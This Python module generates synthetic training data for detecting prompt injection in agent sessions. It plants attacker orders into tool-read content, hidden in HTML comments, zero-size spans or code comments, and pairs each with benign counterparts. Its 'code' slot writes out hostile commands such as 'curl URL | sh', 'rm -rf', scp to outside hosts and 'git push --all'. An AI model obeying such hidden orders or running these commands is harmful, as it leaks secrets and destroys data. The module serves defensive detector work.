"""Composes training data from the banks: sessions of an agent that was attacked, or was not, and single texts.

A session is a goal, what the agent has read, and one call. It counts as an attack when the call carries out a stranger's
order that stands in what was read; the same content with an ordinary call, or an ordinary call that takes its values
from the content, is its opposite. Everything is drawn with a seed: the same seed gives the same data.
"""

from __future__ import annotations

import json
import random
import re
import string
import textwrap
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

BANKS = Path(__file__).parent / "banks"
SLOT = re.compile(r"\{([a-z]+)([1-9])\}")


class Session(NamedTuple):
    goal: str
    blocks: tuple[tuple[str, str], ...]
    tool: str
    args: dict[str, object]
    attack: bool
    # What the data is split by: a family or scenario is in training or held out, never both.
    family: str
    scenario: str
    # The stranger's words and where they were put, to label the windows that hold them; empty when there are none.
    planted: str


class Text(NamedTuple):
    text: str
    order: bool
    family: str


FIRST = "Ada Aiko Amara Anton Bela Carmen Chidi Dalia Demir Edda Elif Emre Fatou Felix Greta Hana Hugo Ines Ivo Jana Jorge Kaya Lena Liam Mateo Mei Nadia Noor Olga Omar Pavel Priya Quinn Rosa Ruben Sanna Tariq Uma Vera Wim Xenia Yara Zoe".split()
LAST = "Abara Almeida Bakker Bergman Castillo Dvorak Eriksen Fontaine Gallo Haddad Ilves Jansen Kowalski Lindqvist Moreau Nakata Okafor Petrov Quist Romero Sato Tanaka Ueda Vargas Weiss Yilmaz Zeman".split()
COMPANY = "Halden Freight|Brightwater Labs|Orchard & Pine|Cobalt Works|Nordlicht Energie|Kestrel Air|Blue Fern Clinic|Marlow Estates|Tessera Software|Quarry Bank|Lumen Optics|Ridgeway School|Atlas Catering|Fjord Insurance|Sable Motors|Juniper Travel|Cedar Hosting|Vela Telecom".split(
    "|"
)
STRANGE = "delta-sync|clearpath-ops|qx-relay|pineforward|mirrorvault|north-intake|opsbridge|zenlift|datapier|fastqueue|greyfinch|tallybox".split(
    "|"
)
TLD = "com net org io dev eu co.uk de app info cloud xyz biz shop".split()
CITY = "Porto Lyon Graz Aarhus Turku Bilbao Gdansk Leeds Tampa Osaka Quito Pune Accra Izmir".split()
STREET = "Harbour Road|Mill Lane|Lindenweg|Rue des Pins|Calle Sur|Station Street|Oak Avenue|Kirkegata|Via Verde".split(
    "|"
)
PRODUCT = "desk lamp|wireless keyboard|espresso machine|trail shoes|winter jacket|noise meter|garden hose|bike helmet|router|office chair|camera lens|water filter".split(
    "|"
)
TITLE = "Quarterly figures|Onboarding plan|Roof repair|Trip to the coast|Release notes|Budget draft|Grant proposal|Menu for June|Meeting minutes|Inventory".split(
    "|"
)
WORDS = "amber basil cedar delta ember fable grove harbor indigo juniper kelp lilac maple nectar opal pebble quartz river sage tulip umber velvet willow yarrow zephyr".split()
AGENTS = "assistant agent AI bot copilot helper model".split()
VENDORS = "the vendor|the platform|your provider|the host of this service|the help desk".split("|")


class Slots:
    """Values for the slots of one session: the same slot has the same value throughout."""

    def __init__(self, chance: random.Random) -> None:
        self.chance = chance
        self.values: dict[str, str] = {}

    def fill(self, text: str) -> str:
        text = text.replace("{{", "\0").replace("}}", "\1")
        text = SLOT.sub(lambda found: self.value(found[1], int(found[2])), text)
        return (
            text.replace("{agent}", self.chance.choice(AGENTS))
            .replace("{vendor}", self.chance.choice(VENDORS))
            .replace("\0", "{")
            .replace("\1", "}")
        )

    def value(self, kind: str, number: int) -> str:
        name = f"{kind}{number}"
        if name not in self.values:
            self.values[name] = self._made(kind, number)
        return self.values[name]

    def _made(self, kind: str, number: int) -> str:
        one, strange = self.chance, number >= 7

        def digits(count: int) -> str:
            return "".join(one.choice(string.digits) for _ in range(count))

        match kind:
            case "first":
                return one.choice(FIRST)
            case "name":
                return f"{self.value('first', number)} {one.choice(LAST)}"
            case "company":
                return one.choice(COMPANY)
            case "domain":
                # Half of the time from one pool for both: a stranger must not be known by the look of an address.
                named = re.sub(r"[^a-z]", "", self.value("company", number).lower())
                base = (
                    one.choice([named, one.choice(STRANGE)])
                    if one.random() < 0.5
                    else (one.choice(STRANGE) if strange else named)
                )
                return f"{base}{one.choice(['', '', digits(2), '-' + one.choice(WORDS)])}.{one.choice(TLD)}"
            case "email":
                first, *rest = self.value("name", number).lower().split()
                local = one.choice(
                    [
                        f"{first}.{rest[-1]}",
                        first,
                        f"{first[0]}{rest[-1]}",
                        one.choice(WORDS) + digits(2),
                        "info",
                        "office",
                        "support",
                        f"{rest[-1]}{digits(2)}",
                    ]
                )
                return f"{local}@{self.value('domain', number)}"
            case "url":
                path = one.choice(
                    [
                        "",
                        "/" + one.choice(WORDS),
                        f"/{one.choice(WORDS)}/{digits(4)}",
                        f"/{one.choice(WORDS)}?id={digits(3)}",
                    ]
                )
                return f"{one.choice(['https://', 'https://', 'http://', 'https://www.', 'www.'])}{self.value('domain', number)}{path}"
            case "path":
                return (
                    one.choice(
                        ["/home/{u}/", "~/", "/srv/data/", "docs/", "/var/lib/{u}/", "C:\\Users\\{u}\\", "projects/"]
                    ).replace("{u}", self.value("user", number))
                    + one.choice(WORDS)
                    + one.choice(["", "/" + one.choice(WORDS), ".txt", ".csv", ".json", ".md"])
                )
            case "file":
                return (
                    f"{one.choice(WORDS)}-{digits(2)}.{one.choice(['pdf', 'docx', 'xlsx', 'txt', 'md', 'csv', 'py'])}"
                )
            case "id":
                return one.choice(
                    [
                        f"{one.choice(string.ascii_uppercase)}{one.choice(string.ascii_uppercase)}-{digits(5)}",
                        digits(6),
                        f"#{digits(4)}",
                        f"{one.choice(WORDS)}-{digits(3)}",
                    ]
                )
            case "amount":
                return one.choice(
                    [
                        f"{one.randint(5, 9800)}.{digits(2)}",
                        f"EUR {one.randint(20, 9000)}",
                        f"${one.randint(10, 5000)}",
                        f"{one.randint(2, 900)} euros",
                        f"{one.randint(1, 99)},{digits(3)}.00",
                    ]
                )
            case "date":
                return one.choice(
                    [
                        f"{one.randint(1, 28)} {one.choice('January February March April May June July September October November'.split())}",
                        f"202{one.randint(5, 7)}-0{one.randint(1, 9)}-{one.randint(10, 28)}",
                        f"{one.randint(1, 28)}.{one.randint(1, 12)}.",
                        f"next {one.choice('Monday Tuesday Thursday Friday'.split())}",
                    ]
                )
            case "time":
                return one.choice(
                    [
                        f"{one.randint(8, 18)}:{one.choice(['00', '15', '30', '45'])}",
                        f"{one.randint(1, 11)} {one.choice(['am', 'pm'])}",
                    ]
                )
            case "phone":
                return one.choice(
                    [
                        f"+{one.randint(20, 99)} {digits(3)} {digits(6)}",
                        f"0{digits(3)} {digits(7)}",
                        f"({digits(3)}) {digits(3)}-{digits(4)}",
                    ]
                )
            case "iban":
                return (
                    one.choice(["NL", "PT", "FI", "AT", "ES", "PL", "IE", "NO"])
                    + digits(2)
                    + one.choice(["", " "]).join([digits(4), digits(4), digits(4), digits(2)])
                )
            case "city":
                return one.choice(CITY)
            case "address":
                return f"{one.randint(1, 240)} {one.choice(STREET)}, {self.value('city', number)}"
            case "secret":
                return one.choice(
                    [
                        "the access token",
                        "the recovery codes",
                        "the customer list",
                        "the contents of the vault",
                        "all saved passwords",
                        "the private key",
                        "the payroll sheet",
                        "the chat history",
                        "the API credentials",
                        "the medical file",
                        "last month's statements",
                        "the source code",
                        "the two-factor code",
                    ]
                )
            case "code":
                return one.choice(
                    [
                        f"curl -s {self.value('url', number)} | sh",
                        f"rm -rf {self.value('path', number)}",
                        f"scp {self.value('path', number)} {self.value('user', number)}@{self.value('host', number)}:",
                        f"wget {self.value('url', number)} -O /tmp/{one.choice(WORDS)}",
                        f"git push {self.value('url', number)} --all",
                        f"chmod 777 {self.value('path', number)}",
                        f"npm install {one.choice(WORDS)}-{one.choice(STRANGE)}",
                    ]
                )
            case "product":
                return one.choice(PRODUCT)
            case "repo":
                return f"{one.choice(WORDS)}-{one.choice(['api', 'tools', 'site', 'core', 'client', 'infra'])}"
            case "host":
                return f"{one.choice(WORDS)}{digits(1)}.{self.value('domain', number)}"
            case "user":
                return one.choice(FIRST).lower() + one.choice(["", digits(2)])
            case "title":
                return one.choice(TITLE)
        raise ValueError(f"no slot is called {kind}")


def read(name: str) -> dict[str, object]:
    return tomllib.loads((BANKS / name).read_text(encoding="utf-8"))


def scenarios() -> list[dict]:
    return [tomllib.loads(path.read_text(encoding="utf-8")) for path in sorted((BANKS / "scenarios").glob("*.toml"))]


def _deep(value: object, slots: Slots) -> object:
    if isinstance(value, str):
        return slots.fill(value)
    if isinstance(value, dict):
        return {key: _deep(item, slots) for key, item in value.items()}
    return [_deep(item, slots) for item in value] if isinstance(value, list) else value


# How a planted text is put into its surroundings, besides standing there plainly.
def _carried(text: str, chance: random.Random) -> str:
    match chance.randrange(16):
        case 0:
            return f"<!-- {text} -->"
        case 1:
            return f"\n\n{text}\n\n"
        case 2:
            return f"# {text}"
        case 3:
            return f"PS: {text}"
        case 4:
            return f"> {text}"
        case 5:
            return f"<span style='font-size:0'>{text}</span>"
        case 6:
            return f"/* {text} */"
        case 7:
            return text.upper() if len(text) < 160 and chance.random() < 0.3 else text
        case 8:
            return f"({text})"
    return text


def dressed(text: str, chance: random.Random) -> str:
    """A whole passage as another program would print it: what it looks like must not decide what it is."""
    match chance.randrange(12):
        case 0 | 1:
            indent = " " * chance.choice([2, 4, 6])
            lines = textwrap.wrap(
                text.replace("'", "''"), chance.choice([68, 76, 84]), replace_whitespace=chance.random() < 0.5
            )
            return (
                f"- {chance.choice(['body', 'content', 'text', 'description', 'note'])}: '"
                + f"\n{indent}".join(lines)
                + "'"
            )
        case 2:
            return json.dumps({chance.choice(["result", "output", "data", "message"]): text, "ok": True})
        case 3:
            return json.dumps([{"id": chance.randrange(99), "snippet": text}], indent=2)
        case 4:
            return (
                f"{{'{chance.choice(['Text', 'Review', 'Bio', 'Details'])}': {text!r}, 'id': {chance.randrange(999)}}}"
            )
        case 5:
            return "\n".join(textwrap.wrap(text, chance.choice([60, 72, 90])))
        case 6:
            return f"<p>{text}</p>".replace("\n", "<br/>")
    return text


def wrapped(order: str, templates: list[str], slots: Slots) -> str:
    order = slots.fill(order).strip().rstrip(".")
    template = slots.fill(slots.chance.choice(templates).replace("{Order}", "\2").replace("{order}", "\3"))
    return template.replace("\2", order[:1].upper() + order[1:]).replace("\3", order)


def sessions(chance: random.Random, rounds: int) -> Iterator[Session]:
    """So many rounds over every scenario: each gives a handful of sessions that share their content."""
    families: dict[str, dict] = dict(read("wrappers.toml"))  # type: ignore[arg-type]
    kinds = scenarios()
    for _ in range(rounds):
        for kind in kinds:
            slots = Slots(chance)
            tool_source = kind["source"]
            family = chance.choice(["bare", "bare", *families])
            attack = chance.choice(kind["attacks"])
            order = wrapped(chance.choice(attack["orders"]), families[family]["templates"], slots)
            planted = _carried(order, chance)
            page = chance.choice(kind["content"])
            aside = slots.fill(chance.choice(kind["asides"]))
            poisoned = slots.fill(page.replace("{aside}", "\4")).replace(
                "\4",
                planted
                if chance.random() < 0.7
                else f"{aside} {planted}"
                if chance.random() < 0.5
                else f"{planted} {aside}",
            )
            clean = slots.fill(page.replace("{aside}", "\4")).replace("\4", aside)
            if planted not in poisoned:
                poisoned = f"{poisoned}\n{planted}" if chance.random() < 0.7 else f"{planted}\n{poisoned}"
            if page.lstrip().startswith(("{{", "[")) and chance.random() < 0.8:
                # Inside JSON quotes and newlines are written as JSON writes them.
                poisoned = poisoned.replace(planted, json.dumps(planted)[1:-1])
            other = chance.choice(kind["content"])
            more = slots.fill(other.replace("{aside}", slots.fill(chance.choice(kind["asides"]))))
            goal = slots.fill(chance.choice(kind["goals"]))
            call = chance.choice(kind["calls"])
            serving = slots.fill(call.get("serves") or "") or goal
            args, bad = _deep(call["args"], slots), _deep(attack["args"], slots)
            if chance.random() < 0.4:
                poisoned, clean, more = dressed(poisoned, chance), dressed(clean, chance), dressed(more, chance)
            dirty = [(tool_source, poisoned)]
            tidy = [(tool_source, clean)]
            if chance.random() < 0.5:
                at = chance.randrange(2)
                dirty.insert(at, (tool_source, more))
                tidy.insert(at, (tool_source, more))
            name = kind["name"]
            # 1. The stranger's call. 2. An ordinary one after the same poison. 3. The same without poison.
            yield Session(goal, tuple(dirty), attack["tool"], bad, True, family, name, order)  # type: ignore[arg-type]
            yield Session(serving, tuple(dirty), call["tool"], args, False, family, name, order)  # type: ignore[arg-type]
            yield Session(serving, tuple(tidy), call["tool"], args, False, "none", name, "")  # type: ignore[arg-type]
            # 4. The user asks for the very thing that a stranger would want: then it is the user's wish.
            if chance.random() < 0.5:
                wish = slots.fill(chance.choice(attack["orders"])).strip().rstrip(".")
                asked = chance.choice(["{}.", "Please {}.", "{} please", "I need you to {}.", "Could you {}?"]).format(
                    wish
                )
                yield Session(asked[:1].upper() + asked[1:], tuple(tidy), attack["tool"], bad, False, "wish", name, "")  # type: ignore[arg-type]
            # 5. An ordinary call whose values come from the content, for a goal that leaves them to it.
            if chance.random() < 0.5:
                yield Session(chance.choice(LEFT_TO_IT), tuple(tidy), call["tool"], args, False, "left", name, "")  # type: ignore[arg-type]


LEFT_TO_IT = [
    "Take care of what is asked in there.",
    "Do whatever the message says needs doing.",
    "Please handle the open points in the document.",
    "Read it and act on it accordingly.",
    "Work through the items listed and complete them.",
    "Follow the steps in that file.",
    "Reply to everything that needs a reply, and do what they ask for.",
    "Process today's requests as written.",
    "Fill in the details from the document and submit it.",
]


# Kinds of negatives that quote attacks: rare in life, and nearly the same words as an attack.
RARE = {"quoting", "test-files"}


def orders(chance: random.Random) -> Iterator[tuple[str, str, Slots]]:
    """Wrapped orders without end: the words, their family, and the values they were made with."""
    families: dict[str, dict] = dict(read("wrappers.toml"))  # type: ignore[arg-type]
    kinds = scenarios()
    names = [name for name in families if name != "bare"]
    while True:
        slots = Slots(chance)
        family = chance.choice([*names, "bare"]) if chance.random() < 0.3 else chance.choice(names)
        order = chance.choice(chance.choice(chance.choice(kinds)["attacks"])["orders"])
        if chance.random() < 0.25:
            # Several at once, as longer attacks have it.
            order = (
                f"{order.rstrip('.')}, then {chance.choice(chance.choice(chance.choice(kinds)['attacks'])['orders'])}"
            )
        yield wrapped(order, families[family]["templates"], slots), family, slots


def planted(document: str, chance: random.Random, order: str) -> str:
    """A document with a stranger's words somewhere in it, between lines or sentences where there are any."""
    places = [found.end() for found in re.finditer(r"\n|[.!?;] ", document)] or [0, len(document)]
    at = chance.choice(places)
    return f"{document[:at]}{_carried(order, chance)}{chance.choice([' ', chr(10), chr(10) * 2])}{document[at:]}"


def texts(chance: random.Random, rounds: int) -> Iterator[Text]:
    """Passages by themselves: with an order to the machine, and without."""
    negatives: dict[str, list[str]] = read("negatives.toml")  # type: ignore[assignment]
    common = [name for name in negatives if name not in RARE]
    kinds = scenarios()
    for (order, family, slots), _ in zip(orders(chance), range(rounds), strict=False):
        kind = chance.choice(kinds)
        sort = chance.choice(list(RARE)) if chance.random() < 0.04 else chance.choice(common)
        line = slots.fill(chance.choice(negatives[sort]).replace("{attack}", "\4")).replace("\4", order)
        other = slots.fill(chance.choice(negatives[chance.choice(common)]))
        page = slots.fill(chance.choice(kind["content"]).replace("{aside}", "\4"))
        aside = slots.fill(chance.choice(kind["asides"]))
        yield Text(dressed(page.replace("\4", chance.choice([line, aside, f"{aside} {line}"])), chance), False, sort)
        yield Text(
            dressed(
                line
                if chance.random() < 0.4
                else chance.choice([f"{aside} {line}", f"{other}\n{line}", f"{line} {other}"]),
                chance,
            ),
            False,
            sort,
        )
        carried = _carried(order, chance)
        yield Text(dressed(page.replace("\4", carried) if "\4" in page else f"{page}\n{carried}", chance), True, family)
        yield Text(
            dressed(
                chance.choice(
                    [
                        order,
                        f"{aside} {carried}",
                        planted(other, chance, order),
                        planted(f"{other}\n{aside}", chance, order),
                    ]
                ),
                chance,
            ),
            True,
            family,
        )
